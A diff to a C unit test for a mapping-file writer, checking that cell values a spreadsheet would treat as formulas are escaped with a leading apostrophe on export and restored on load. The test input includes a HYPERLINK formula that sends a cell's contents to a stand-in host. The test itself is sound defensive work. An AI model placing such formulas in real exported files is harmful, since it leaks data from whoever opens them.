@@ -363,14 +363,31 @@ static void mapping_file(void **state)
                                 "choix possibles : oui (Oui), non (Non)"),
                      PN_OK);
     assert_int_equal(pn_map_add(&map, PN_MAP_COLUMN, "Q9", "", "again"), PN_OK); /* there */
-    assert_int_equal(map.n, 7);
+    /* a value that a spreadsheet would read as a formula: written with a leading ', read
+     * back without it */
+    assert_int_equal(pn_map_add(&map, PN_MAP_VALUE, "=HYPERLINK(\"http://x?d=\"&A1;\"x\")",
+                                "travaille", "@SUM(1+1)"),
+                     PN_OK);
+    assert_int_equal(map.n, 8);
     char copy[256];
     snprintf(copy, sizeof copy, "%s.out", path);
     assert_int_equal(pn_map_write(&map, copy, &err), PN_OK);
     pn_map again;
     assert_int_equal(pn_map_load(&again, copy, fx->form, &err), PN_OK);
-    assert_int_equal(again.n, 7);
+    assert_int_equal(again.n, 8);
     assert_string_equal(again.e[6].source, "Peut-être; plus tard");
+    assert_string_equal(again.e[7].source, "=HYPERLINK(\"http://x?d=\"&A1;\"x\")");
+    assert_string_equal(again.e[7].note, "@SUM(1+1)");
+    {
+        FILE *in = fopen(copy, "rb");
+        char text[4096];
+        size_t n = in ? fread(text, 1, sizeof text - 1, in) : 0;
+        if (in)
+            fclose(in);
+        text[n] = '\0';
+        assert_non_null(strstr(text, "\"'=HYPERLINK(\"\"http"));
+        assert_non_null(strstr(text, ";'@SUM(1+1)\r\n"));
+    }
     assert_string_equal(again.e[6].variable, "travaille");
     assert_string_equal(again.e[3].note, "Argenteuil");
     pn_map_release(&again);
